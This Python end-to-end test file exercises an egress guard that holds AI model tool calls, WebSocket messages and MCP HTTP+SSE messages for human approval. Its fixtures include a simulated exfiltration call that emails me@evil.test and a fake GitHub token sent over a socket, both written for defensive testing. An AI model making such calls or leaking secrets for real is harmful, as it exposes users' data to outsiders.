"""What is held open besides requests: calls in models' answers, messages of WebSockets, HTTP+SSE.

Real clients (OpenAI, Anthropic, Google, websockets, the MCP SDK) behind a listener
of one server; some behind a forward listener as well.
"""

from __future__ import annotations

import asyncio
from contextlib import asynccontextmanager
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import httpx
import pytest
from mcp import ClientSession
from mcp.client.sse import sse_client
from websockets.asyncio.client import connect
from websockets.asyncio.server import serve
from websockets.exceptions import ConnectionClosed

from guard.processes.loopback import Rig, free_port
from guard.store.embedded import EmbeddedRedis
from tests.e2e import approval_desk
from tests.e2e.approval_desk import SECONDS, Desk, outcomes
from tests.e2e.clients import Reading
from tests.e2e.running_guard import ROOT, Upstream, start_guard, wait_until
from tests.e2e.test_model_sdks import answer as model_answer
from tests.e2e.test_model_sdks import (
    ask_anthropic,
    ask_gemini,
    ask_openai_chat,
    ask_openai_responses,
)
from tests.e2e.test_websockets import POLICY as BLOCKING

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator
    from pathlib import Path

    from websockets.asyncio.server import ServerConnection

    from tests.e2e.running_guard import RunningGuard

pytestmark = pytest.mark.e2e

THEFT = ("email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
HOLD = "version: 1\nname: hold\nask: {hold: 5m, quiet: 5m}\n"
SOCKETS = BLOCKING.replace("mode: enforce", "mode: enforce\nask: {hold: 5m}").replace(
    "effect: block", "effect: ask"
)
ECHO = """
version: 1
name: echo
mode: enforce
ask: {hold: 5m}
tools:
  - {match: [echo], role: other}
rules:
  - {id: echo, type: tool, roles: [other], effect: ask}
  - {id: allow, type: tool, effect: allow}
"""
TOKEN = "ghp_" + "0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R"


def forwarding(directory: Path, proxy: int) -> tuple[str, ...]:
    """Return options for a forward listener besides the other one."""
    return "--forward", f"127.0.0.1:{proxy}", "--ca", str(directory / "ca")


def opened(port: int) -> str:
    """Return the part of a policy that lets a forward listener connect to a local server."""
    return f"\negress: {{ports: [{port}], private: [localhost]}}\n"


@asynccontextmanager
async def desk(redis: str, directory: Path) -> AsyncIterator[Desk]:
    """Yield what answers requests, where none of an earlier test waits any more."""
    async with approval_desk.desk(redis, directory) as people:
        for one in await people.waiting():
            await people.deny(one.decision)
        yield people


async def answered(people: Desk, *, granted: bool, count: int = 1) -> str:
    """Answer what waits, once so many requests do; return the id of one."""
    found = await people.asked(count)
    await people.answer(*found, granted=granted)
    return found[0]


# --- models' answers -----------------------------------------------------------------------------


@dataclass
class Model:
    """A guard in front of a model server."""

    guard: RunningGuard
    redis: str
    directory: Path

    @property
    def url(self) -> str:
        """Where its clients connect."""
        return f"http://127.0.0.1:{self.guard.port}"

    def desk(self) -> Any:
        """Return what answers requests for approval."""
        return desk(self.redis, self.directory)


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Model]:
    """Return one."""
    directory = tmp_path_factory.mktemp("model")
    (directory / "hold.yaml").write_text(HOLD, encoding="utf-8")
    server = Upstream()
    server.answer = model_answer
    with EmbeddedRedis() as redis:
        policies = ("--policy", str(directory / "hold.yaml"), "--redis", redis.url)
        options = ("--model-api", f"127.0.0.1:{server.port}", *policies)
        default = ROOT / "policies" / "default.yaml"
        guard = start_guard(directory / "guard", server, policy=default, options=options)
        yield Model(guard, redis.url, directory)
        guard.stop()
    server.close()


CLIENTS = pytest.mark.parametrize(
    "ask", [ask_openai_chat, ask_openai_responses, ask_anthropic, ask_gemini]
)


class Raw(Reading):
    """A streamed answer as it comes."""

    def __init__(self, url: str, proxy: str | None = None) -> None:
        super().__init__()
        self._client = httpx.AsyncClient(trust_env=False, timeout=SECONDS, proxy=proxy)
        self._url = f"{url}/v1/chat/completions"
        self.task = asyncio.get_running_loop().create_task(self._run())

    async def _run(self) -> None:
        message = {"role": "user", "content": "please theft"}
        asked = {"model": "m", "stream": True, "messages": [message]}
        async with self._client, self._client.stream("POST", self._url, json=asked) as answer:
            async for piece in answer.aiter_text():
                self.text += piece

    async def leave(self) -> None:
        """Hang up."""
        self.task.cancel()
        await asyncio.gather(self.task, return_exceptions=True)


async def asking(model: Model, ask: Any, *, streamed: bool) -> tuple[str, list[Any]]:
    """Return the text and the calls of an answer."""
    return (await asyncio.to_thread(ask, model.url, "please theft", streamed=streamed))[:2]


@CLIENTS
async def test_a_call_in_a_streamed_answer_waits_and_arrives_as_it_was(
    model: Model, ask: Any
) -> None:
    """Every client waits through what it is told meanwhile, and then reads the very call."""
    async with model.desk() as people:
        waiting = asyncio.ensure_future(asking(model, ask, streamed=True))
        # It was asked before this one, so it has been told as well that it waits.
        await people.asked()
        other = Raw(model.url)
        await other.reads(": the egress guard waits")
        begun = other.text
        await answered(people, granted=True, count=2)
        text, calls = await waiting
        await other.task

    assert calls == [THEFT]
    assert text == "Let me see."
    assert "Let me" in begun.replace('"}', "")
    assert "email_send_email" not in begun
    assert "email_send_email" in other.text


@CLIENTS
async def test_a_call_in_a_whole_answer_waits_as_long_as_the_policy_says(
    model: Model, ask: Any
) -> None:
    """One yes releases one, and a no reads as words."""
    async with model.desk() as people:
        waiting = asyncio.ensure_future(asking(model, ask, streamed=False))
        await answered(people, granted=True)
        released = await waiting
        waiting = asyncio.ensure_future(asking(model, ask, streamed=False))
        await answered(people, granted=False)
        text, calls = await waiting

    assert released == ("Let me see.", [THEFT])
    assert calls == []
    assert "by the egress guard and did not reach the tool" in text


async def test_who_hangs_up_gives_the_call_up(model: Model) -> None:
    """A yes after that releases nothing: it waits for the model to ask again."""
    async with model.desk() as people:
        raw = Raw(model.url)
        await raw.reads(": the egress guard waits")
        await raw.leave()

        def left() -> bool:
            return [*outcomes(model.guard).values()][-1:] == ["left"]

        await asyncio.to_thread(wait_until, left, "the end of the wait")
        decision = await answered(people, granted=True)

    assert [*outcomes(model.guard)][-1] == decision
    assert "email_send_email" not in raw.text


# --- WebSockets ----------------------------------------------------------------------------------


class Socket:
    """A server that keeps what it is told, and says something when it is asked to."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.connection: ServerConnection | None = None

    async def serve(self, connection: ServerConnection) -> None:
        """Serve one client."""
        self.connection = connection
        async for message in connection:
            self.heard.append(str(message))


@asynccontextmanager
async def socket_place(
    directory: Path, *more: str, forward: bool
) -> AsyncIterator[tuple[Any, Socket, str]]:
    """Yield a client, the server behind a guard, and the Redis that people answer in."""
    server, proxy = Socket(), free_port()
    async with serve(server.serve, "127.0.0.1", 0) as listening:
        upstream: Any = Upstream.__new__(Upstream)
        upstream.port = next(iter(listening.sockets)).getsockname()[1]
        with EmbeddedRedis() as redis:
            options = ("--redis", redis.url, *more)
            policy, egress = directory / "policy.yaml", ""
            if forward:
                options += forwarding(directory, proxy)
                egress = opened(upstream.port)
            policy.write_text(SOCKETS + egress, encoding="utf-8")
            guard = await asyncio.to_thread(
                start_guard, directory / "guard", upstream, policy=policy, options=options
            )
            client = connect(
                f"ws://localhost:{upstream.port if forward else guard.port}/chat",
                proxy=f"http://127.0.0.1:{proxy}" if forward else None,
                compression=None,
                ping_interval=None,
            )
            yield client, server, redis.url
            await asyncio.to_thread(guard.stop)


@pytest.mark.parametrize("forward", [False, True])
async def test_a_message_of_a_websocket_waits_and_the_rest_of_it_lives(
    tmp_path: Path, forward: bool
) -> None:
    """Pings are answered and the server is heard; what the client sends next keeps its place."""
    async with (
        socket_place(tmp_path, forward=forward) as (connecting, server, redis),
        desk(redis, tmp_path) as people,
        connecting as client,
    ):
        await client.send("hello")
        await client.send(f"the key is {TOKEN}")
        await people.asked()
        async with asyncio.timeout(SECONDS):
            for number in range(3):
                await client.send(f"after {number}")
                await (await client.ping())
            assert server.connection is not None
            await server.connection.send("are you there?")
            heard = await client.recv()
            before = list(server.heard)
            # Joined with the first one, each of the others has the key in it as well.
            for number in range(4):
                await answered(people, granted=True)
                while len(server.heard) < 2 + number:  # noqa: ASYNC110  (nobody is told)
                    await asyncio.sleep(0.02)
            await client.send(f"another key is {TOKEN}")
            await answered(people, granted=False)
            with pytest.raises(ConnectionClosed) as closed:
                await client.recv()

    assert heard == "are you there?"
    assert before == ["hello"]
    assert server.heard == ["hello", f"the key is {TOKEN}", "after 0", "after 1", "after 2"]
    assert closed.value.rcvd is not None
    assert closed.value.rcvd.code == 1008


async def test_what_waits_behind_a_message_has_a_bound(tmp_path: Path) -> None:
    """Behind mitmproxy as many bytes as a body may have; more of them end the WebSocket."""
    place = socket_place(tmp_path, "--body-limit", "64k", forward=True)
    async with (
        place as (connecting, server, redis),
        desk(redis, tmp_path) as people,
        connecting as client,
    ):
        await client.send(f"the key is {TOKEN}")
        await people.asked()
        for _ in range(3):
            await client.send("x" * 30_000)
        with pytest.raises(ConnectionClosed) as closed:
            await asyncio.wait_for(client.recv(), SECONDS)

    assert server.heard == []
    assert closed.value.rcvd is not None
    assert closed.value.rcvd.code == 1008


async def test_what_comes_while_a_call_is_held_has_a_bound(tmp_path: Path) -> None:
    """A model server that goes on and on, meanwhile, is cut off; the call is not released."""

    def flood(request: bytes) -> bytes:
        head, _, body = model_answer(request).partition(b"\r\n\r\n")
        whole = body + b": on and on\n\n" * 20_000
        start = head.partition(b"content-length: ")[0] + b"transfer-encoding: chunked\r\n\r\n"
        return start + b"%x\r\n%b\r\n0\r\n\r\n" % (len(whole), whole)

    server = Upstream()
    server.answer = flood
    proxy = free_port()
    (tmp_path / "hold.yaml").write_text(HOLD + opened(server.port), encoding="utf-8")
    policies = ("--policy", str(tmp_path / "hold.yaml"), *forwarding(tmp_path, proxy))
    options = ("--model-api", f"localhost:{server.port}", "--body-limit", "64k", *policies)
    default = ROOT / "policies" / "default.yaml"
    guard = start_guard(tmp_path / "guard", server, policy=default, options=options)
    raw = Raw(f"http://localhost:{server.port}", f"http://127.0.0.1:{proxy}")
    async with asyncio.timeout(SECONDS):
        [ended] = await asyncio.gather(raw.task, return_exceptions=True)
    guard.stop()
    server.close()

    assert isinstance(ended, httpx.HTTPError)
    assert "email_send_email" not in raw.text


# --- HTTP+SSE (2024-11-05) -----------------------------------------------------------------------


async def test_a_message_of_http_sse_waits_while_its_post_is_answered(tmp_path: Path) -> None:
    """The MCP SDK's older client: the result comes in its stream, once a person has said yes."""
    (tmp_path / "policy.yaml").write_text(ECHO, encoding="utf-8")
    with EmbeddedRedis() as redis, Rig() as rig:
        upstream = rig.server("lab.fixture_server", "sse")
        fake: Any = Upstream.__new__(Upstream)
        fake.port = int(str(upstream).rpartition(":")[2])
        options = ("--redis", redis.url)
        policy = tmp_path / "policy.yaml"
        guard = start_guard(tmp_path / "guard", fake, policy=policy, options=options)
        async with (
            desk(redis.url, tmp_path) as people,
            sse_client(f"http://127.0.0.1:{guard.port}/sse", timeout=SECONDS) as (read, write),
            ClientSession(read, write) as session,
        ):
            await session.initialize()
            calling = asyncio.ensure_future(session.call_tool("echo", {"text": "hello"}))
            await answered(people, granted=True)
            async with asyncio.timeout(SECONDS):
                released = await calling
            calling = asyncio.ensure_future(session.call_tool("echo", {"text": "again"}))
            await answered(people, granted=False)
            async with asyncio.timeout(SECONDS):
                denied = await calling
        # The line of a wait that is over follows the answer.
        both = "the end of both waits"
        await asyncio.to_thread(wait_until, lambda: len(outcomes(guard)) > 1, both)
        guard.stop()

    assert released.content[0].text == "hello"
    assert "denied" in denied.content[0].text
    assert [*outcomes(guard).values()] == ["released", "denied"]
